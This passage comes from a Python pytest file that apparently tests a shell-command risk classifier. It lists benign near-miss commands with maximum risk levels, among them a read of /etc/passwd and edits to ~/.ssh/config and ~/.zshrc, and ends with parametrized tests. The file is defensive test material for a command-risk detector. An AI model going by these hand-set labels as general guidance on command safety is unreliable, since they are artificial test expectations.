    ("mv draft.txt final.txt", MODERATE),
    ("mv -n photo.jpg ~/Pictures/", MODERATE),
    ("truncate -s 1G disk.img", MODERATE),
    ("truncate -s 0 debug.log", MODERATE),
    ("jq '.version=\"2\"' package.json | sponge package.json", MODERATE),
    ("sort -u words.txt | sponge words.txt", MODERATE),
    ("echo done | tee -a build.log", MODERATE),
    ("dd if=image.iso of=/dev/null bs=4M status=progress", MODERATE),
    ("split -b 100M backup.tar backup.part.", MODERATE),
    ("uniq sorted.txt", SAFE),
    ("rename -n 's/\\.jpeg$/.jpg/' *.jpeg", SAFE),
    ("rename 's/\\.jpeg$/.jpg/' *.jpeg", MODERATE),
    # in-place editors on one's own files, and reads of system files
    ("sed -n '1,20p' /etc/passwd", SAFE),
    ("sed -i 's/foo/bar/g' src/main.c", MODERATE),
    ("sed -i.bak 's/DEBUG=1/DEBUG=0/' .env", MODERATE),
    ("perl -pi -e 's/2023/2024/g' README.md", MODERATE),
    ("ex -sc '%s/foo/bar/g|x' notes.txt", MODERATE),
    ("sd 'foo' 'bar' src/lib.rs", MODERATE),
    ("patch -p1 --dry-run < fix.diff", MODERATE),
    ("patch -p1 < fix.diff", MODERATE),
    # archives
    ("tar -xzf project.tgz", MODERATE),
    ("tar -xzf release.tgz -C /tmp/release", MODERATE),
    ("tar -czf docs-backup.tgz ~/Documents", MODERATE),
    ("unzip archive.zip -d ~/Downloads/archive", MODERATE),
    ("7z t archive.7z", SAFE),
    ("cpio -it < archive.cpio", SAFE),
    ("cd /tmp/unpack && cpio -idv < initrd.cpio", MODERATE),
    ("bsdtar -tf image.tar", SAFE),
    ("bsdtar -xf docs.zip -C ./docs", MODERATE),
    ("pax -f archive.pax", SAFE),
    ("pax -wf backup.pax ./src", MODERATE),
    ("unrar l archive.rar", SAFE),
    # find, fd and cleaners with narrow targets or previews
    ("find ~/Downloads -name '*.part' -mtime +7 -print", SAFE),
    ("find /var/log -name '*.gz' -mtime +30", SAFE),
    ("fd -e py", SAFE),
    ("fd -e orig -x rm {}", MODERATE),
    ("fdfind -H .env", SAFE),
    ("cat files.txt | xargs wc -l", SAFE),
    ("trash-put old-notes.txt", MODERATE),
    ("trash-list", SAFE),
    ("gio trash old-notes.txt", MODERATE),
    ("tmpreaper --test 7d /tmp", SAFE),
    ("tmpwatch --test 240 /tmp", SAFE),
    ("logrotate -d /etc/logrotate.conf", SAFE),
    ("fdupes -r ~/Pictures", SAFE),
    ("jdupes -r ~/Music", SAFE),
    ("rdfind -dryrun true ~/Pictures", SAFE),
    ("rmlint ~/Downloads", MODERATE),
    # scheduling and services
    ("echo 'make report' | at 18:00", MODERATE),
    ("systemd-run --user --on-active=30m notify-send 'Stretch'", MODERATE),
    ("systemd-analyze verify ~/.config/systemd/user/backup.service", SAFE),
    ("journalctl --user -u backup.timer", SAFE),
    ("update-rc.d nginx defaults", MODERATE),
    ("rc-update add sshd default", MODERATE),
    ("supervisorctl status", SAFE),
    # start-up files and hooks: ordinary settings and reads
    ("echo 'alias ll=\"ls -la\"' >> ~/.zshrc", MODERATE),
    ("echo 'set -gx PATH $HOME/.cargo/bin $PATH' >> ~/.config/fish/config.fish", MODERATE),
    ("cat /etc/environment", SAFE),
    ("grep -r pam_exec /etc/pam.d/", SAFE),
    ("udevadm monitor", SAFE),
    ("ls /etc/udev/rules.d/", SAFE),
    ("ls /etc/NetworkManager/dispatcher.d/", SAFE),
    ("ssh -G github.com | grep -i proxycommand", SAFE),
    ("printf 'Host web\\n  HostName 10.0.0.5\\n  User deploy\\n' >> ~/.ssh/config", MODERATE),
    ("ssh -o ProxyJump=bastion.example.com app01", MODERATE),
]


@pytest.mark.parametrize(("command", "least"), DANGEROUS)
def test_dangerous(command: str, least: RiskLevel) -> None:
    reaches(command, least)


@pytest.mark.parametrize(("command", "highest"), NEAR_MISSES)
def test_near_miss(command: str, highest: RiskLevel) -> None:
    stays_within(command, highest)
